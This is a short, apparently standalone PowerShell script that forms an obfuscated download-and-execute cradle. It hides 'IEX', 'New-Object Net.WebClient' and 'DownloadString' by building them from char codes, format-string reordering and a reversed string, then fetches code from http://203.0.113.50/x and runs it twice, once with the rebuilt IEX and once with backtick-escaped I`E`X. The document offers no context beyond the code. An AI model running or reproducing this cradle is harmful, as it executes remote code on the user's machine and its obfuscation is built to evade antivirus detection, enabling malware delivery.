$c1 = [char[]](73,69,88) -join ''
$c2 = ('{2}{0}{1}' -f 'ct Net.W','ebClient','New-Obje')
$s = 'gnirtSdaolnwoD'
$m = ($s[-1..-($s.Length)] -join '')
$u = 'ht' + 'tp://' + '203.0.113.50' + '/x'
$w = & ('New-'+'Object') Net.WebClient
$code = $w.$m($u)
& $c1 $code
I`E`X $code
